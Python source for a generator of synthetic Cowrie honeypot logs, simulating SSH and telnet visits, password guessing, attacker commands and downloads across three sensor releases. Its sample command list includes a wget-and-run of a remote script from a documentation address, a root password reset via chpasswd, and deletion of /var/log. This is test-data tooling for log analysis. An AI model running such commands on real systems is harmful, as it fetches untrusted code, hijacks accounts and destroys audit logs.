"""A Cowrie honeypot's log: visits from connect to close, seen by three sensors of three releases.

Addresses come from the ranges that RFC 5737 and RFC 3849 keep for documentation.
"""

from __future__ import annotations

import hashlib
import heapq
import json
from collections.abc import Iterator, Mapping
from datetime import timedelta
from random import Random
from typing import NamedTuple

from log_shapes.chance import EPOCH, happens, skewed

SECOND_US = 1_000_000
DAY_US = 86_400 * SECOND_US
TAIL_US = 900 * SECOND_US
"""No visit lasts this long, so one that starts before the tail ends inside the last day."""


class Sensor(NamedTuple):
    """A honeypot, with the habits of its release."""

    name: str
    address: str
    uuid: str
    session_bits: int
    duration: str


SENSORS = (
    Sensor("honeypot-north", "198.51.100.10", "6a1f0c52-0000-11f0-8000-000000000001", 48, "ms"),
    Sensor("honeypot-east", "198.51.100.20", "6a1f0c52-0000-11f0-8000-000000000002", 48, "text"),
    Sensor("honeypot-south", "198.51.100.30", "", 32, "number"),
)
CLIENTS = (
    "SSH-2.0-Go",
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-paramiko_2.11.0",
    "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3",
)
KEX = ("curve25519-sha256", "ecdh-sha2-nistp256", "diffie-hellman-group14-sha256")
HOST_KEYS = ("ssh-ed25519", "ecdsa-sha2-nistp256", "rsa-sha2-512", "rsa-sha2-256")
CIPHERS = ("chacha20-poly1305@openssh.com", "aes128-ctr", "aes192-ctr", "aes256-ctr")
MACS = ("umac-64-etm@openssh.com", "hmac-sha2-256-etm@openssh.com", "hmac-sha2-256", "hmac-sha1")
USERS = ("root", "admin", "ubuntu", "test", "pi", "oracle", "guest", "deploy", "git", "jürgen")
PASSWORDS = ("123456", "admin", "password", "root", "1234", "raspberry", "P@ssw0rd", "x", "größe")
COMMANDS = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "whoami",
    "free -m | grep Mem | awk '{print $2 ,$3, $4}'",
    "cd /tmp; wget http://203.0.113.5/fetch.sh; sh fetch.sh",
    "ls -lh $(which ls)",
    "crontab -l",
    'echo "root:hunter2" | chpasswd',
    "rm -rf /var/log/*",
)


def address(random: Random) -> str:
    """A documentation address: mostly IPv4, sometimes IPv6."""
    if happens(random, 0.05):
        return f"2001:db8::{random.getrandbits(16):x}"
    network = skewed(random, ("203.0.113", "192.0.2", "198.51.100"))
    return f"{network}.{1 + int(254 * random.random() ** 2)}"


class Visit:
    """One visit to a honeypot; the events in the order of their times."""

    def __init__(self, random: Random, start_us: int) -> None:
        self.random = random
        self.now_us = self.start_us = start_us
        self.sensor = random.choice(SENSORS)
        self.source = address(random)
        self.id = (
            f"{random.getrandbits(self.sensor.session_bits):0{self.sensor.session_bits // 4}x}"
        )
        self.protocol = "telnet" if happens(random, 0.2) else "ssh"
        # Old releases name neither the installation nor, after the connect, the protocol.
        self.installation = {"uuid": self.sensor.uuid} if self.sensor.uuid else {}
        self.events: list[tuple[int, str]] = []

    def play(self) -> list[tuple[int, str]]:
        """Time and line of every event of a whole visit."""
        self.connect()
        if self.protocol == "ssh":
            self.greet()
        if self.log_in():
            self.work()
        self.write("cowrie.session.closed", self.lasted(), f"Connection lost after {self.age()}")
        return self.events

    def wait(self, seconds: float) -> None:
        """Let some of that time pass."""
        self.now_us += 1 + int(self.random.random() * seconds * SECOND_US)

    def age(self) -> str:
        """How long the visit has lasted, as Cowrie's messages say it."""
        return f"{(self.now_us - self.start_us) / SECOND_US:.1f} seconds"

    def lasted(self) -> dict[str, object]:
        """How long the visit has lasted, in the spelling of the sensor's release."""
        seconds = (self.now_us - self.start_us) / SECOND_US
        if self.sensor.duration == "ms":
            return {"duration_ms": round(seconds * 1000)}
        return {"duration": f"{seconds:.1f}" if self.sensor.duration == "text" else seconds}

    def stamp(self) -> str:
        """The time of the next event."""
        now = EPOCH + timedelta(microseconds=self.now_us)
        return now.isoformat(timespec="microseconds").removesuffix("+00:00") + "Z"

    def write(self, eventid: str, attributes: Mapping[str, object], message: object) -> None:
        """Add an event; the keys stand in Cowrie's order."""
        event = {
            "eventid": eventid,
            **attributes,
            "message": message,
            "sensor": self.sensor.name,
            **self.installation,
            "timestamp": self.stamp(),
            "src_ip": self.source,
            "session": self.id,
            **({"protocol": self.protocol} if self.installation else {}),
        }
        self.events.append((self.now_us, json.dumps(event)))

    def connect(self) -> None:
        """The first event, whose keys stand in an order of their own."""
        source_port = 1024 + self.random.getrandbits(15)
        port = 2222 if self.protocol == "ssh" else 2223
        event = {
            "eventid": "cowrie.session.connect",
            "src_ip": self.source,
            "src_port": source_port,
            "dst_ip": self.sensor.address,
            "dst_port": port,
            "session": self.id,
            "protocol": self.protocol,
            "message": f"New connection: {self.source}:{source_port} "
            f"({self.sensor.address}:{port}) [session: {self.id}]",
            "sensor": self.sensor.name,
            **self.installation,
            "timestamp": self.stamp(),
        }
        self.events.append((self.now_us, json.dumps(event)))

    def greet(self) -> None:
        """What an SSH client says of itself before it logs in."""
        client = skewed(self.random, CLIENTS)
        self.wait(0.5)
        self.write("cowrie.client.version", {"version": client}, f"Remote SSH version: {client}")
        if happens(self.random, 0.85):
            return
        keep = 1 + CLIENTS.index(client) % 3
        lists = [[*names[:keep]] for names in (KEX, HOST_KEYS, CIPHERS, MACS)]
        kex, keys, ciphers, macs = lists
        algorithms = ";".join(",".join(names) for names in (kex, ciphers, macs, ["none"]))
        hassh = hashlib.md5(algorithms.encode(), usedforsecurity=False).hexdigest()
        attributes = {
            "hassh": hassh,
            "hasshAlgorithms": algorithms,
            "kexAlgs": kex,
            "keyAlgs": keys,
            "encCS": ciphers,
            "macCS": macs,
            "compCS": ["none"],
            "langCS": [""],
        }
        self.wait(0.2)
        self.write("cowrie.client.kex", attributes, f"SSH client hassh fingerprint: {hassh}")

    def log_in(self) -> bool:
        """Try passwords until one is right or the visitor gives up."""
        for _ in range(1 + int(4 * self.random.random() ** 2)):
            self.wait(3)
            user, password = skewed(self.random, USERS), skewed(self.random, PASSWORDS)
            is_right = happens(self.random, 0.25)
            self.write(
                f"cowrie.login.{'success' if is_right else 'failed'}",
                {"username": user, "password": password},
                f"login attempt [{user}/{password}] {'succeeded' if is_right else 'failed'}",
            )
            if is_right:
                return True
        return False

    def work(self) -> None:
        """What a visitor does once inside."""
        self.wait(1)
        self.write("cowrie.session.params", {"arch": "linux-x64-lsb"}, [])
        for _ in range(1 + int(7 * self.random.random() ** 2)):
            self.wait(20)
            command = skewed(self.random, COMMANDS)
            self.write("cowrie.command.input", {"input": command}, f"CMD: {command}")
            if "wget" in command:
                self.fetch(f"http://203.0.113.{1 + self.random.getrandbits(4)}/fetch.sh")
            elif command.startswith("crontab"):
                self.write(
                    "cowrie.command.failed", {"input": command}, f"Command not found: {command}"
                )
        ttylog = f"var/lib/cowrie/tty/{hashlib.sha256(self.id.encode()).hexdigest()}"
        self.wait(5)
        self.write(
            "cowrie.log.closed",
            {"ttylog": ttylog, "size": self.random.getrandbits(12), **self.lasted()},
            f"Closing TTY Log: {ttylog} after {self.age()}",
        )

    def fetch(self, url: str) -> None:
        """A download, which now and then fails."""
        self.wait(4)
        if happens(self.random, 0.1):
            failed = "cowrie.session.file_download.failed"
            self.write(failed, {"url": url}, f"Attempt to download file(s) from URL ({url}) failed")
            return
        shasum = hashlib.sha256(url.encode()).hexdigest()
        outfile = f"var/lib/cowrie/downloads/{shasum}"
        self.write(
            "cowrie.session.file_download",
            {"url": url, "outfile": outfile, "shasum": shasum, "destfile": "/tmp/fetch.sh"},  # noqa: S108 - a path on the honeypot
            f"Downloaded URL ({url}) with SHA-256 {shasum} to {outfile}",
        )


def cowrie_lines(random: Random, count: int, start_us: int, days: int) -> Iterator[tuple[int, str]]:
    """Exactly that many events, merged over overlapping sessions in the order of their times."""
    span_us = days * DAY_US - TAIL_US
    waiting: list[tuple[int, int, str]] = []
    made = sent = 0
    while sent < count:
        jitter_us = int(random.random() * span_us / count)
        next_us = start_us + span_us * made // count + jitter_us if made < count else None
        while waiting and sent < count and (next_us is None or waiting[0][0] <= next_us):
            moment, _, line = heapq.heappop(waiting)
            sent += 1
            yield moment, line
        if next_us is not None:
            for moment, line in Visit(random, next_us).play():
                made += 1
                heapq.heappush(waiting, (moment, made, line))
